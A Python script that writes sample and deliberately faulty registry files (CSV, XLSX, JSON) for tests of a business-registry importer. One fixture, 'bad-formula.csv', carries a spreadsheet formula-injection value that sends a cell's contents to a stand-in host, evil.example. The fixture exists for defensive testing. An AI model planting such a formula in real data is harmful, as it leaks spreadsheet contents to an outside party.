"""Writes the sample and bad registry files used by tests/registry/test_import*.py.

Run from the repository root: `.venv/bin/python tests/registry/files/make_files.py`. The files are
committed; this script documents exactly how each one was made (encodings, separators, faults).
"""

import csv
import io
import json
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
COLUMNS = [
    "registry_number",
    "name",
    "kind",
    "legal_form",
    "sector",
    "district",
    "address",
    "address_public",
    "latitude",
    "longitude",
    "phone",
    "whatsapp",
    "email",
    "website",
    "description",
    "services",
    "languages",
    "ruc",
    "founded_year",
]

# Three listings as a municipal office would type them: names with accents, districts and
# sectors by name or by code, with or without accents.
ROWS = [
    [
        "RMO-2024-000101",
        "Arepera La Guaira",
        "business",
        "sole_proprietor",
        "Gastronomía y alimentos",
        "Carmen de la Legua Reynoso",
        "Av. Morales Duárez 1234",
        "yes",
        "-12.041200",
        "-77.091300",
        "987654321",
        "+51 987 654 321",
        "arepera@example.pe",
        "https://arepera.example.pe",
        "Arepas, cachapas y tequeños para llevar.",
        "arepas;cachapas;tequeños",
        "es",
        "10456789019",
        "2019",
    ],
    [
        "",
        "Peluquería Génesis",
        "business",
        "informal",
        "belleza",
        "San Martín de Porres",
        "Jr. Las Flores 321, interior 2",
        "no",
        "-12.003000",
        "-77.079000",
        "912345678",
        "",
        "",
        "",
        "Cortes, tintes y alisados.",
        "cortes;tintes",
        "es;en",
        "",
        "",
    ],
    [
        "",
        "Asociación Venezolanos Unidos en Breña",
        "organization",
        "association",
        "comunitario",
        "brena",
        "",
        "yes",
        "",
        "",
        "",
        "987111222",
        "contacto@vunidos.example.org",
        "www.vunidos.example.org",
        "Orientación a migrantes y ferias de servicios.",
        "orientación;ferias",
        "es",
        "20601234565",
        "2018",
    ],
]


def write_csv(name, rows, *, encoding="utf-8", delimiter=",", header=COLUMNS):
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    (HERE / name).write_bytes(buffer.getvalue().encode(encoding))


def write_xlsx(name, rows):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for row in rows:
        cells = list(row)
        # Excel keeps numbers as numbers: coordinates, the RUC and the year come back as such.
        for index in (8, 9):
            cells[index] = float(cells[index]) if cells[index] else None
        cells[18] = int(cells[18]) if cells[18] else None
        sheet.append(cells)
    workbook.save(HERE / name)


def main():
    write_csv("registry-utf8.csv", ROWS)
    (HERE / "registry-utf8-bom.csv").write_bytes(b"\xef\xbb\xbf" + (HERE / "registry-utf8.csv").read_bytes())
    write_csv("registry-latin1-semicolon.csv", ROWS, encoding="cp1252", delimiter=";")
    write_xlsx("registry.xlsx", ROWS)
    objects = [dict(zip(COLUMNS, row, strict=True)) for row in ROWS]
    for item in objects:
        item["services"] = item["services"].split(";")
        item["languages"] = item["languages"].split(";")
        item["latitude"] = float(item["latitude"]) if item["latitude"] else None
        item["longitude"] = float(item["longitude"]) if item["longitude"] else None
    (HERE / "registry.json").write_text(json.dumps(objects, ensure_ascii=False, indent=2), encoding="utf-8")

    # The catalogue of bad files: each has exactly one fault, in the row named in the test.
    bad = [list(r) for r in ROWS]
    bad[1][5] = "Miraflores del Norte"
    write_csv("bad-unknown-district.csv", bad)
    bad = [list(r) for r in ROWS]
    bad[2][17] = "20601234561"  # wrong check digit
    write_csv("bad-invalid-ruc.csv", bad)
    bad = [list(r) for r in ROWS]
    bad[2][0] = bad[0][0]
    write_csv("bad-duplicate-registry-number.csv", bad)
    bad = [list(r) for r in ROWS]
    bad[1][1] = '=HYPERLINK("http://evil.example/?"&A1,"Peluquería")'
    write_csv("bad-formula.csv", bad)
    bad = [list(r) for r in ROWS]
    bad[0] = bad[0] + ["sobra", "otra"]
    write_csv("bad-too-many-columns.csv", bad)
    (HERE / "bad-empty.csv").write_bytes(b"")
    write_csv("bad-header-only.csv", [])


if __name__ == "__main__":
    main()
